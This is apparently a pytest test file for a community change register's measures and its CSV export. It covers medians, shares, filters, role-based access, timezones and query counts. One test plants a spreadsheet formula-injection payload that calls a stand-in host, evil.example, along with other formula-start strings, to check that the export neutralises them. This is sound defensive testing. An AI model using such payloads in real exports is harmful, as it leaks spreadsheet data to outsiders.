"""Register measures, the CSV export and their bounds: each measure on a small hand-built set,
the N setting, filters, formula neutralisation, who may export, and a constant query count."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from engage.changes import exports
from engage.changes.measures import (
    DEFAULT_PLAN_WITHIN_DAYS,
    PLAN_WITHIN_DAYS_SETTING,
    plan_within_days,
    register_measures,
)
from engage.changes.models import Item, Level, State, Support, Theme
from engage.core import generation, settings
from engage.core.audit import AuditEntry
from engage.extensions import db
from engage.people.models import Organisation, Role
from tests.changes.conftest import insert_item
from tests.conftest import count_queries

TODAY = date(2025, 6, 30)
UTC_ZONE = ZoneInfo("UTC")


def at(day: date | int, hour: int = 12) -> datetime:
    """Noon UTC on ``day``, or ``day`` days before TODAY when it is a number."""
    if isinstance(day, int):
        day = TODAY - timedelta(days=day)
    return datetime(day.year, day.month, day.day, hour, tzinfo=UTC)


def make_item(**values: object) -> Item:
    """An item raised 60 days before TODAY unless the test says otherwise."""
    values.setdefault("created_at", at(60))
    return insert_item(**values)


def measures(**kwargs: object):
    kwargs.setdefault("today", TODAY)
    kwargs.setdefault("plan_days", 28)
    kwargs.setdefault("timezone", UTC_ZONE)
    return register_measures(select(Item), **kwargs)


def test_action_plan_within_n_days_over_accepted_items(ctx):
    state = State.ACTION_PLANNED.value
    make_item(state=state, triaged_at=at(50), planned_at=at(40))  # 10 days: in time
    make_item(state=state, triaged_at=at(50), planned_at=at(22))  # exactly 28 days: in time
    make_item(state=state, triaged_at=at(50), planned_at=at(10))  # 40 days: late
    make_item(state=State.TRIAGED.value, triaged_at=at(50))  # accepted, no plan yet
    make_item(state=state, triaged_at=at(40), planned_at=at(45))  # planned first: 0 days
    make_item(state=State.RAISED.value)  # not accepted: left out
    make_item(state=State.MERGED.value, triaged_at=at(50))  # a duplicate: left out

    m = measures()

    assert (m.planned_in_time.numerator, m.planned_in_time.denominator) == (3, 5)
    assert m.planned_in_time.share == pytest.approx(0.6)
    assert m.planned_in_time.percent_label() == "60%"
    # Days to a plan: 10, 28, 40 and 0 -> median 19.
    assert m.days_to_plan.days == pytest.approx(19)
    assert m.days_to_plan.count == 4
    assert m.days_to_plan.days_label() == "19 days"
    assert m.counted == 6


def test_resolved_within_target_and_median_days_to_resolution(ctx):
    resolved = State.RESOLVED.value
    # Resolved late on its target day: still on time.
    make_item(state=resolved, created_at=at(100), resolved_at=at(80, 23), target_date=at(80).date())
    # Resolved the day after its target date: late.
    make_item(state=resolved, created_at=at(100), resolved_at=at(40), target_date=at(41).date())
    # Resolved without a target date: counts for the median only.
    make_item(state=resolved, created_at=at(100), resolved_at=at(0))
    # Open with a past target date: not resolved, so not in this measure.
    make_item(state=State.IN_PROGRESS.value, created_at=at(100), target_date=at(50).date())

    m = measures()

    assert (m.resolved_on_time.numerator, m.resolved_on_time.denominator) == (1, 2)
    assert m.resolved_on_time.percent_label() == "50%"
    # Raised to resolved: 20 days 11 hours, 60 days and 100 days -> median 60.
    assert m.days_to_resolve.days == pytest.approx(60)
    assert m.days_to_resolve.count == 3


def test_the_resolution_day_is_the_local_day(ctx):
    # 23:30 UTC on the target day in June is half past midnight the next day in London.
    make_item(
        state=State.RESOLVED.value,
        created_at=at(10),
        resolved_at=datetime(2025, 6, 20, 23, 30, tzinfo=UTC),
        target_date=date(2025, 6, 20),
    )
    assert measures().resolved_on_time.numerator == 1
    assert measures(timezone=ZoneInfo("Europe/London")).resolved_on_time.numerator == 0


def test_nothing_to_count_is_not_enough_data(ctx):
    m = measures()
    assert m.planned_in_time.share is None
    assert m.planned_in_time.percent_label() == "Not enough data"
    assert m.resolved_on_time.percent_label() == "Not enough data"
    assert m.days_to_plan.days is None and m.days_to_plan.days_label() == "Not enough data"
    assert m.days_to_resolve.days is None
    assert m.open_total == 0
    assert [n for _, n in m.open_by_age] == [0, 0, 0, 0]
    assert m.open_by_theme == [] and m.open_by_agency == []
    assert [n for _, n in m.open_by_level] == [0, 0, 0]


def test_open_items_by_age_theme_agency_and_level(ctx):
    council = Organisation(name="City Council")
    trust = Organisation(name="Mental Health Trust")
    db.session.add_all([council, trust])
    db.session.flush()
    open_ = State.TRIAGED.value
    for days in (0, 30):
        make_item(state=open_, created_at=at(days), theme="housing", agency_id=council.id)
    make_item(state=State.RAISED.value, created_at=at(31), theme="housing", agency_id=trust.id)
    make_item(state=State.ESCALATED.value, created_at=at(90), level=Level.STRATEGIC.value)
    make_item(state=State.REOPENED.value, created_at=at(180), agency_other="A food bank")
    make_item(state=State.IN_PROGRESS.value, created_at=at(181), level=Level.DELIVERY.value)
    make_item(state=State.ACTION_PLANNED.value, created_at=at(400), agency_id=council.id)
    # Not open: left out of every breakdown.
    make_item(state=State.RESOLVED.value, created_at=at(400), resolved_at=at(1))
    make_item(state=State.CLOSED.value, created_at=at(5))
    make_item(state=State.MERGED.value, created_at=at(5))

    m = measures()

    assert m.open_total == 7
    assert m.open_by_age == [
        ("0 to 30 days", 2),
        ("31 to 90 days", 2),
        ("91 to 180 days", 1),
        ("Over 180 days", 2),
    ]
    assert m.open_by_theme == [("Health", 4), ("Housing", 3)]
    assert m.open_by_agency == [
        ("City Council", 3),
        ("Other or not given", 3),
        ("Mental Health Trust", 1),
    ]
    assert m.open_by_level == [
        ("Operational group", 5),
        ("Delivery board", 1),
        ("Strategic board", 1),
    ]


def test_n_is_a_runtime_setting(ctx):
    make_item(state=State.ACTION_PLANNED.value, triaged_at=at(50), planned_at=at(40))  # 10 days
    assert plan_within_days() == DEFAULT_PLAN_WITHIN_DAYS == 28
    assert measures(plan_days=None).planned_in_time.numerator == 1
    settings.put(PLAN_WITHIN_DAYS_SETTING, "7")
    db.session.flush()
    assert plan_within_days() == 7
    m = measures(plan_days=None)
    assert m.plan_days == 7 and m.planned_in_time.numerator == 0
    settings.put(PLAN_WITHIN_DAYS_SETTING, "soon")
    assert plan_within_days() == DEFAULT_PLAN_WITHIN_DAYS


# Through the pages.


def _add(app, **values: object) -> int:
    with app.test_request_context():
        item = make_item(**values)
        db.session.commit()
        return item.id


def _measure(page: str, name: str) -> str:
    match = re.search(rf'id="{name}">\s*(?:<strong>)?([^<]+)<', page)
    assert match, name
    return match.group(1).strip()


def test_managers_see_measures_that_follow_the_filters_and_the_setting(app, client, signed_in):
    for days in (10, 20):
        _add(app, state=State.TRIAGED.value, theme="housing", triaged_at=at(days))
    _add(app, state=State.ACTION_PLANNED.value, triaged_at=at(30), planned_at=at(20))
    signed_in(Role.MANAGER)

    page = client.get("/register").get_data(as_text=True)
    assert "How these are worked out" in page
    assert _measure(page, "measure-open") == "3"
    assert _measure(page, "measure-plan") == "33%"
    assert "1 of 3 accepted items" in page
    assert "Accepted items with an action plan within 28 days" in page

    page = client.get("/register?theme=housing").get_data(as_text=True)
    assert _measure(page, "measure-open") == "2"
    assert _measure(page, "measure-plan") == "0%"
    assert "0 of 2 accepted items" in page
    assert "/register.csv?theme=housing" in page
    # The htmx filter request gets the measures with the results.
    fragment = client.get("/register?theme=health", headers={"HX-Request": "true"})
    assert _measure(fragment.get_data(as_text=True), "measure-open") == "1"

    with app.test_request_context():
        settings.put(PLAN_WITHIN_DAYS_SETTING, "5")
        db.session.commit()
    page = client.get("/register").get_data(as_text=True)
    assert "Accepted items with an action plan within 5 days" in page
    assert _measure(page, "measure-plan") == "0%"


@pytest.mark.parametrize("role", [Role.PEER, Role.PARTNER])
def test_peers_and_partners_see_no_measures_and_cannot_export(app, client, signed_in, role):
    _add(app, state=State.TRIAGED.value, triaged_at=at(10))
    signed_in(role)
    page = client.get("/register").get_data(as_text=True)
    assert "How these are worked out" not in page
    assert "register.csv" not in page
    assert client.get("/register.csv").status_code == 403


def test_board_members_see_measures(app, client, signed_in):
    signed_in(Role.BOARD)
    page = client.get("/register").get_data(as_text=True)
    assert "How these are worked out" in page
    assert _measure(page, "measure-plan") == "Not enough data"


def _csv(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_csv_export_neutralises_formulas_and_leaves_out_names(app, client, make_user, signed_in):
    raiser = make_user("robin", preferred_name="Robin Raiser")
    with app.test_request_context():
        council = Organisation(name="City Council")
        owner = Organisation(name="@Owner Org")
        db.session.add_all([council, owner])
        db.session.commit()
        council_id, owner_id = council.id, owner.id
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    first = _add(
        app,
        title=attack,
        theme="housing",
        agency_id=council_id,
        owner_organisation_id=owner_id,
        raised_by_id=raiser.id,
        show_name=True,
        state=State.RESOLVED.value,
        created_at=at(date(2025, 1, 2)),
        triaged_at=at(date(2025, 1, 3)),
        planned_at=at(date(2025, 1, 10)),
        resolved_at=at(date(2025, 3, 1)),
        target_date=date(2025, 3, 31),
        supporter_count=4,
        what_changed="-1+1 and the council now answers the phone",
    )
    _add(app, title="+tab\tinside", agency_other="\tTabbed service", theme="health")
    _add(app, title="Plain title", theme="health")
    manager = signed_in(Role.MANAGER)

    response = client.get("/register.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="register-\d{4}-\d{2}-\d{2}\.csv"', disposition)
    rows = _csv(response)
    assert rows[0] == [
        "Number",
        "Title",
        "Theme",
        "Service or organisation",
        "Status",
        "Level",
        "Owner organisation",
        "Target date",
        "Raised",
        "Accepted",
        "Action plan",
        "Resolved",
        "Supporters",
        "What changed",
    ]
    by_number = {row[0]: row for row in rows[1:]}
    assert len(by_number) == 3
    assert by_number[str(first)] == [
        str(first),
        "'" + attack,
        "Housing",
        "City Council",
        "Resolved",
        "Operational group",
        "'@Owner Org",
        "2025-03-31",
        "2025-01-02",
        "2025-01-03",
        "2025-01-10",
        "2025-03-01",
        "4",
        "'-1+1 and the council now answers the phone",
    ]
    tabbed = next(row for row in rows[1:] if "inside" in row[1])
    assert tabbed[1] == "'+tab\tinside" and tabbed[3] == "'\tTabbed service"
    body = response.get_data(as_text=True)
    assert "robin" not in body.lower() and "Robin Raiser" not in body

    # The filters apply, and the export is in the audit log.
    rows = _csv(client.get("/register.csv?theme=health&q=plain"))
    assert [row[1] for row in rows[1:]] == ["Plain title"]
    with app.app_context():
        entry = db.session.scalars(
            select(AuditEntry).where(AuditEntry.action == "register.exported")
        ).all()[-1]
        assert entry.actor_id == manager.id
        assert entry.detail_dict == {"q": "plain", "theme": "health"}


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\uff1d1+1", "\uff20SUM(A1)"]
)
def test_formula_starts_are_neutralised(text):
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Plain", " =not first", "a=b", "", 12, None, date(2025, 1, 1)])
def test_other_cells_are_left_alone(value):
    assert exports.neutralise(value) == value


def _seed(app, start: int, count: int) -> None:
    """Items with every relation the list or the measures could touch."""
    with app.test_request_context():
        orgs = [Organisation(name=f"Service {start + n}") for n in range(3)]
        db.session.add_all(orgs)
        db.session.flush()
        states = list(State)
        for n in range(start, start + count):
            make_item(
                title=f"Item {n}",
                theme=list(Theme)[n % len(Theme)].value,
                state=states[n % len(states)].value,
                level=1 + n % 3,
                agency_id=orgs[n % 3].id if n % 4 else None,
                owner_organisation_id=orgs[(n + 1) % 3].id,
                created_at=at(n * 5 % 400),
                triaged_at=at(n * 5 % 400 // 2) if n % 3 else None,
                planned_at=at(n % 20) if n % 2 else None,
                resolved_at=at(1) if states[n % len(states)] == State.RESOLVED else None,
                target_date=TODAY - timedelta(days=n % 30) if n % 2 else None,
                supporter_count=n % 5,
                what_changed="Better",
            )
        db.session.commit()


def test_the_register_page_makes_the_same_queries_for_5_and_60_items(
    app, client, signed_in, make_user
):
    supporter = make_user()
    signed_in(Role.MANAGER)
    _seed(app, 0, 5)
    with app.test_request_context():
        first = db.session.scalar(select(Item.id).order_by(Item.id))
        db.session.add(Support(item_id=first, user_id=supporter.id))
        db.session.commit()
    client.get("/register")  # warm up anything loaded once per process
    # The measures as they are worked out after a change, not as kept until one
    # (engage.core.generation): the page's whole cost.
    generation.forget_kept(app)
    small = count_queries(app, client, "/register")
    small_csv = count_queries(app, client, "/register.csv")
    _seed(app, 5, 55)
    with app.test_request_context():
        assert db.session.scalar(select(db.func.count(Item.id))) == 60
    generation.forget_kept(app)
    large = count_queries(app, client, "/register")
    large_csv = count_queries(app, client, "/register.csv")
    assert small == large
    assert small_csv == large_csv
    assert large <= 10  # sign-in (3), count, page of items, services, setting, measures


def _counted(page: str) -> int:
    found = re.search(r"from the (\d+) items? (?:in the register|that match)", page)
    assert found, "the register shows its measures"
    return int(found.group(1))


def test_the_register_measures_are_kept_only_until_an_item_changes(
    app, client, signed_in, make_user, make_item
):
    """The measures are kept between visits (engage.core.generation), per filter, and counted
    again as soon as anything changes."""
    raiser = make_user()
    make_item(raiser, theme="housing")
    signed_in(Role.MANAGER)
    everything = _counted(client.get("/register").get_data(as_text=True))
    housing = _counted(client.get("/register?theme=housing").get_data(as_text=True))
    assert housing < everything or housing == everything == 1
    kept = count_queries(app, client, "/register")
    generation.forget_kept(app)
    assert kept < count_queries(app, client, "/register")  # kept: no measures' queries

    make_item(raiser, theme="housing")
    assert _counted(client.get("/register").get_data(as_text=True)) == everything + 1
    assert _counted(client.get("/register?theme=housing").get_data(as_text=True)) == housing + 1
    make_item(raiser, theme="health")
    assert _counted(client.get("/register?theme=housing").get_data(as_text=True)) == housing + 1
    assert _counted(client.get("/register").get_data(as_text=True)) == everything + 2
